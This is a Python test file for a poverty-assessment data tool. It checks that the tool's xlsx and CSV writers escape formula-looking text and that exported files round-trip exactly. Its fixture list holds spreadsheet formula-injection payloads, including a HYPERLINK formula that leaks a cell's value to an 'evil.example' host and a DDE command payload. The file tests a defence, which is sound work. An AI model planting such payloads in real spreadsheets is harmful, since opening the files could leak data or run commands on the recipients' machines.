"""The one writer of text cells (io.tables) and the writers built on it: formula-looking text is
never a live formula in an xlsx we write, and is escaped in every CSV we write (issue 9); the
exchange files still round-trip exactly."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from fupin.engine.assess import OUTPUT_COLUMNS, assess
from fupin.io import read_registry, tables, write_assessment, write_registry, write_rejects
from tests.engine.engine_helpers import frames, household, member, policy

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR", "'=already", "'plain"]


@given(st.text())
def test_csv_escape_is_undone_exactly_by_unescape(text):
    frame = pl.DataFrame({"a": [text]})
    escaped = frame.select(tables.csv_escape_expr(pl.col("a")))
    assert escaped["a"][0] == tables.csv_escape(text)
    assert not escaped["a"][0].startswith(tables.FORMULA_STARTS)
    assert escaped.select(tables.csv_unescape_expr(pl.col("a")))["a"][0] == text


def test_csv_unescape_leaves_an_apostrophe_typed_by_a_person():
    frame = pl.DataFrame({"a": ["'abc", "'", "abc'"]})
    assert frame.select(tables.csv_unescape_expr(pl.col("a")))["a"].to_list() == ["'abc", "'", "abc'"]


def _cells(path, sheet=None):
    wb = load_workbook(path)
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_no_formula(path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(tables.FORMULA_STARTS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)


def test_sheet_writer_writes_formula_looking_text_as_quoted_text(tmp_path):
    path = tables.write_sheets(tmp_path / "t.xlsx", {"清单": pl.DataFrame({"值": HOSTILE, "数": list(range(9))})})
    _assert_no_formula(path)
    # Read back as the importer reads (openpyxl leaves xlsx's escape of \r, _x000D_, as it is).
    import fastexcel

    values = fastexcel.read_excel(str(path)).load_sheet(0).to_polars()["值"].to_list()
    assert values == HOSTILE


def test_csv_writer_escapes_formula_looking_text(tmp_path):
    tables.write_csv(pl.DataFrame({"值": HOSTILE}), tmp_path / "t.csv")
    lines = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in lines and "'=cmd" in lines and "'+1+1" in lines and "'@SUM" in lines
    assert "''=already" in lines and "''plain" in lines


def _registry_with(text):
    h, m = frames([household(hamlet=text)], [member(name=text)])
    return h, m


@pytest.mark.parametrize("container", ["x.xlsx", "x_csv"])
def test_exchange_export_neutralises_and_reads_back_exactly(tmp_path, container):
    h, m = frames([household(household_id=f"H{i}", hamlet=text) for i, text in enumerate(HOSTILE)],
                  [member(household_id=f"H{i}", name=text) for i, text in enumerate(HOSTILE)])
    out = tmp_path / container
    write_registry(out, h, m)
    if container.endswith(".xlsx"):
        _assert_no_formula(out)
    else:
        text = (out / "households.csv").read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    back = read_registry(out, year=2024)
    got = dict(zip(back.households["household_id"], back.households["hamlet"], strict=True))
    assert got == {f"H{i}": text.strip() if text.strip() != text else text for i, text in enumerate(HOSTILE)} \
        or got == {f"H{i}": text for i, text in enumerate(HOSTILE)}


def test_rejects_workbook_keeps_formula_looking_values_as_text(tmp_path):
    h, m = frames([household(hamlet="=HYPERLINK(\"http://evil\")", wage_income=-5.0)], [member(name="@SUM(A1)")])
    write_registry(tmp_path / "in.xlsx", h, m)
    registry = read_registry(tmp_path / "in.xlsx", year=2024)
    assert registry.rejected().height
    write_rejects(registry, tmp_path / "rejects.xlsx")
    _assert_no_formula(tmp_path / "rejects.xlsx")
    assert "=HYPERLINK(\"http://evil\")" in [c.value for c in _cells(tmp_path / "rejects.xlsx", "户")]


def test_assessment_outputs_neutralise_a_formula_in_the_household_number(tmp_path):
    h, m = frames([household(household_id="=1+1")], [member(household_id="=1+1")])
    out = assess(h, m, year=2024, policy=policy())
    write_assessment(out, tmp_path / "a.xlsx")
    _assert_no_formula(tmp_path / "a.xlsx")
    write_assessment(out, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()[1].startswith("'=1+1,")


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_write_assessment_csv_parquet_exactly_output_columns(tmp_path, suffix):
    h, m = frames()
    out = assess(h, m, year=2024, policy=policy())
    path = write_assessment(out, tmp_path / f"a{suffix}")
    back = pl.read_csv(path) if suffix == ".csv" else pl.read_parquet(path)
    assert back.columns == OUTPUT_COLUMNS and back.height == 1


def test_write_assessment_xlsx_chinese_labels_and_summary_sheet(tmp_path):
    h, m = frames([household(), household(household_id="H2", housing_grade="D", disaster_loss=5.0, wage_income=6000.0)],
                  [member(), member(household_id="H2")])
    out = assess(h, m, year=2024, policy=policy())
    path = write_assessment(out, tmp_path / "a.xlsx")
    wb = load_workbook(path, read_only=True)
    assert wb.sheetnames == ["评估结果", "汇总"]
    rows = list(wb["评估结果"].values)
    header = rows[2]  # under the title and the region/date/policy line
    assert header[:3] == ("户编号", "年度", "区划代码") and "住房安全" in header
    h2 = [r for r in rows if r[0] == "H2"][0]
    assert h2[header.index("住房安全")] == "未达标"
    assert h2[header.index("监测类别")] == "边缘易致贫户"
    summary = list(wb["汇总"].values)
    assert ("是否达标", "达标", 1) in summary and ("是否达标", "未达标", 1) in summary
    assert ("未达标指标", "住房安全", 1) in summary and ("监测类别", "边缘易致贫户", 1) in summary


def test_write_assessment_rejects_unknown_suffix(tmp_path):
    h, m = frames()
    with pytest.raises(ValueError, match="xlsx"):
        write_assessment(assess(h, m, year=2024, policy=policy()), tmp_path / "a.txt")


